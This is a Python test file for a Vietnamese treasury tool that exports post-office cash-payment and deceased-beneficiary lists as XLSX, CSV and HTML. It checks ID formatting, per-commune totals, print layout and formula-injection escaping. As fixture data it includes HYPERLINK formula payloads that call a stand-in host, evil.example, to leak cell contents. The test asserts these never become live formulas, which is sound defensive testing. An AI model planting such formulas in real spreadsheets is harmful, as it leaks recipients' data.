"""Issue #25: the post office's cash list as a clerk opens it. The XLSX read back: citizen ids
keep their leading zero (040160012309 became 40160012309 in a spreadsheet), rows grouped and
ordered by province, district and commune, numbered per commune, totals that add up, the
programme's Vietnamese name, the arrears shown; the CSV keeps the table's delimiter."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from banks import cash_list
from banks.cash_list import (
    AMOUNT_FORMAT,
    CASH_LIST,
    DECEASED_LIST,
    MAX_SHEET_TITLE_CHARS,
    ROW_HEIGHT_PT,
    Heading,
    ListKind,
    list_row,
    write_list,
)


def traced(line: int, citizen_id: str, name: str, amount_vnd: int, programme: str,
           province: str, district: str, commune: str, arrears: str = "",
           returned_vnd: int = 0) -> dict[str, Any]:
    return {"line": line, "citizen_id": citizen_id, "full_name": name,
            "amount_vnd": amount_vnd, "programme": programme, "period": "2026-11",
            "arrears": arrears, "province": province, "district": district,
            "commune": commune, "address": "Xóm 3", "status": "stopped",
            "reason_code": "BE23", "end_to_end_id": f"E{line}", "returned_vnd": returned_vnd}


HA_NOI, NGHE_AN = "Thành phố Hà Nội", "Tỉnh Nghệ An"
ROWS = [
    traced(2, "040160012309", "Hoàng Thị Lan", 500_000, "tro_cap_xa_hoi", NGHE_AN,
           "Huyện Nghi Lộc", "Xã Nghi Long"),
    traced(3, "001190012345", "Đỗ Văn An", 2_340_000, "luong_huu", HA_NOI, "Quận Đống Đa",
           "Phường Láng"),
    traced(4, "001190012345", "Đỗ Văn An", 2_340_000, "luong_huu", HA_NOI, "Quận Đống Đa",
           "Phường Láng", arrears="truy lĩnh tháng 10"),
    traced(5, "001145000007", '=HYPERLINK("http://x","bấm")', 500_000, "tro_cap_xa_hoi",
           HA_NOI, "Quận Đống Đa", "Phường Láng", returned_vnd=200_000),
    traced(6, "040055000001", "Bùi Văn Hùng", 2_055_000, "nguoi_co_cong", NGHE_AN,
           "Huyện Nghi Lộc", "Xã Nghi Long"),
]


HEADING = Heading("Kho bạc Nhà nước — TRSYVNV1", date(2026, 12, 7))


def test_the_xlsx_keeps_ids_as_text_grouped_by_commune_with_totals(tmp_path: Path) -> None:
    paths = write_list(tmp_path, "cash_list", map(list_row, ROWS), CASH_LIST, HEADING,
                       delimiter=";")
    sheet = load_workbook(paths["cash_list.xlsx"]).active
    values = [[cell for cell in row] for row in sheet.iter_rows(values_only=True)]
    people = [row for row in values if isinstance(row[0], int)]
    # grouped: Hà Nội's commune, then Nghệ An's; by programme in each, numbered from 1
    assert [(row[0], row[2], row[6]) for row in people] == [
        (1, "001190012345", None), (2, "001190012345", "truy lĩnh tháng 10"),
        (3, "001145000007", None), (1, "040055000001", None), (2, "040160012309", None)]
    assert all(isinstance(row[2], str) and len(row[2]) == 12 for row in people)
    # the Vietnamese programme name, the amount owed (for a return, what came back)
    assert [row[4] for row in people][:3] == ["Lương hưu", "Lương hưu", "Trợ cấp xã hội"]
    assert people[2][7] == 200_000 and people[2][1].startswith("=HYPERLINK")
    headings = [row for row in values if row[0] == "STT"]
    assert len(headings) == 1 and headings[0][-1] == "Ký nhận (ký, ghi rõ họ tên)"
    totals = {row[1]: row[7] for row in values if isinstance(row[1], str)
              and row[1].startswith(("Cộng", "Tổng"))}
    assert totals["Cộng Phường Láng: 3 người"] == 2_340_000 * 2 + 200_000
    assert totals["Cộng Lương hưu: 2 người"] == 4_680_000
    assert totals["Cộng Xã Nghi Long: 2 người"] == 2_555_000
    assert totals["Tổng cộng: 5 người"] == 4_880_000 + 2_555_000
    # the formula-looking name is a text cell, not a formula
    cell = next(c for row in sheet.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("=HYPERLINK"))
    assert cell.data_type == "s"


def test_no_text_from_the_table_becomes_a_formula_headings_included(tmp_path: Path) -> None:
    """The attacker's finding: a commune named =HYPERLINK(…) reached the commune's heading,
    which openpyxl wrote as a live formula in the list the post office prints. Every field
    that comes from the table carries a formula here; no cell of the workbook may be one."""
    formula = '=HYPERLINK("http://evil.example/?"&F6,"Bấm vào đây")'
    hostile = [traced(2, "001190012345", formula, 100_000, "luong_huu", "+" + formula,
                      "-" + formula, formula, arrears="@" + formula)]
    paths = write_list(tmp_path, "cash_list", map(list_row, hostile), CASH_LIST, HEADING,
                       delimiter=";")
    sheet = load_workbook(paths["cash_list.xlsx"]).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert any(str(cell.value).startswith(formula + " — ") for cell in cells)  # the heading


def test_the_csv_keeps_the_tables_delimiter_and_the_html_a_page_per_commune(
        tmp_path: Path) -> None:
    paths = write_list(tmp_path, "cash_list", map(list_row, ROWS), CASH_LIST, HEADING,
                       delimiter=";")
    with paths["cash_list.csv"].open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, delimiter=";"))
    assert [row["citizen_id"] for row in rows][-1] == "040160012309"
    assert rows[2]["full_name"].startswith("'=HYPERLINK")  # shown as text by Excel
    assert {row["arrears"] for row in rows} == {"", "truy lĩnh tháng 10"}
    page = paths["cash_list.html"].read_text(encoding="utf-8")
    assert page.count("<section>") == 2 and "break-after: page" in page
    assert "Xã Nghi Long — Huyện Nghi Lộc — Tỉnh Nghệ An" in page
    assert "<script" not in page and "&lt;" not in page.split("<body>")[0]
    assert '=HYPERLINK(&quot;http://x&quot;,&quot;bấm&quot;)' in page


def test_the_deceased_list_is_not_laid_out_as_a_cash_payment(tmp_path: Path) -> None:
    """A new user's finding: deceased.xlsx had "Lý do chi tiền mặt" and "Ký nhận" columns, so
    a clerk could read the ministry's list of the dead as a list to pay in cash."""
    dead = [row | {"reason_code": "MD07"} for row in ROWS]
    paths = write_list(tmp_path, "deceased", map(list_row, dead), DECEASED_LIST, HEADING,
                       delimiter=";")
    values = list(load_workbook(paths["deceased.xlsx"]).active.iter_rows(values_only=True))
    headings = next(row for row in values if row[0] == "STT")
    assert "Lý do" in headings and not any(
        "Ký nhận" in str(h) or "chi tiền" in str(h) for h in headings)
    assert values[2][0].startswith("KHÔNG CHI TRẢ")
    page = paths["deceased.html"].read_text(encoding="utf-8")
    assert "KHÔNG CHI TRẢ" in page and "Ký nhận" not in page and "class='sign'" not in page
    assert "Lý do chi tiền mặt" not in page


def test_the_xlsx_prints_its_issuer_period_date_and_headings_on_every_page(
        tmp_path: Path) -> None:
    """Issue found by a new user: a printed page without the headings, the issuer or the
    period cannot be signed for; and row heights too small to sign in."""
    paths = write_list(tmp_path, "cash_list", map(list_row, ROWS), CASH_LIST, HEADING,
                       delimiter=";")
    sheet = load_workbook(paths["cash_list.xlsx"]).active
    assert sheet.print_title_rows == "$1:$4" and sheet["A4"].value == "STT"
    assert sheet["A2"].value == ("Đơn vị lập: Kho bạc Nhà nước — TRSYVNV1 — Kỳ: 2026-11 — "
                                 "Ngày lập: 07/12/2026 (giờ Việt Nam)")
    signers = [c.value for row in sheet.iter_rows() for c in row
               if isinstance(c.value, str) and c.value.startswith("Người lập")]
    assert signers and all(v.endswith("(ký, ghi rõ họ tên)") for v in signers)


def test_amounts_have_one_format_with_a_real_thousands_separator_and_rows_room_to_sign(
        tmp_path: Path) -> None:
    """A new user's finding 11: each amount had its own format with literal dots
    (`###\\.##0`), so 900000 edited to 1200000 showed "1200.000"; and rows had no height of
    their own: the "Ký nhận" box was a line or two tall in LibreOffice's PDF."""
    paths = write_list(tmp_path, "cash_list", map(list_row, ROWS), CASH_LIST, HEADING, ",")
    sheet = load_workbook(paths["cash_list.xlsx"]).active
    amounts = [row[7] for row in sheet.iter_rows() if isinstance(row[7].value, int)]
    assert len(amounts) > 5 and {c.number_format for c in amounts} == {AMOUNT_FORMAT}
    assert AMOUNT_FORMAT == "#,##0"  # Excel shows the locale's separator: dots in Vietnamese
    signed = [row[0].row for row in sheet.iter_rows() if isinstance(row[0].value, int)]
    signers = [row[0].row for row in sheet.iter_rows()
               if isinstance(row[1].value, str) and row[1].value.startswith("Người lập")]
    assert len(signed) == 5 and len(signers) == 2
    for row in (*signed, *signers):
        assert sheet.row_dimensions[row].height == ROW_HEIGHT_PT >= 30, row
    assert not sheet.row_dimensions[1].customHeight  # the title keeps its own height


def test_every_sheet_title_fits_excel_and_cuts_no_word(tmp_path: Path) -> None:
    """A new user's finding 10: deceased.xlsx's tab read "Danh sách người hưởng đã qua đờ",
    the title cut at Excel's 31 characters mid-word."""
    kinds = [kind for kind in vars(cash_list).values() if isinstance(kind, ListKind)]
    long_one = ListKind("Danh sách người hưởng được chi trả bổ sung", "", "Lý do", False)
    assert len(kinds) >= 2
    for kind in (*kinds, long_one):
        paths = write_list(tmp_path, "list", map(list_row, ROWS), kind, HEADING, ",")
        title = load_workbook(paths["list.xlsx"]).active.title
        assert 0 < len(title) <= MAX_SHEET_TITLE_CHARS, title
        words = (kind.sheet or kind.title).split()
        assert title.split() == words[:len(title.split())], title  # whole words, in order
    assert long_one.sheet_title() == "Danh sách người hưởng được chi"
    assert DECEASED_LIST.sheet_title() == "Người hưởng đã qua đời"


def test_the_html_ends_with_the_lists_totals_as_the_xlsx_does(tmp_path: Path) -> None:
    """A new user's finding 9: cash_list.html had no list totals, where the XLSX ends with
    "Tổng hợp … Tổng cộng: 5 người"; the docs call the HTML the same list."""
    paths = write_list(tmp_path, "cash_list", map(list_row, ROWS), CASH_LIST, HEADING, ",")
    values = list(load_workbook(paths["cash_list.xlsx"]).active.iter_rows(values_only=True))
    start = next(i for i, row in enumerate(values) if row[0] == "Tổng hợp")
    in_xlsx = [(row[1], row[7]) for row in values[start + 1:]]
    assert in_xlsx[-1] == ("Tổng cộng: 5 người", 7_435_000) and len(in_xlsx) == 4
    page = paths["cash_list.html"].read_text(encoding="utf-8")
    summary = page.split("<h1>Tổng hợp</h1>")[1]
    for label, amount_vnd in in_xlsx:  # the same lines, amounts written 7.435.000
        shown = f"{amount_vnd:,}".replace(",", ".")
        assert f"<td>{label}</td><td class='n'>{shown}</td>" in summary, label
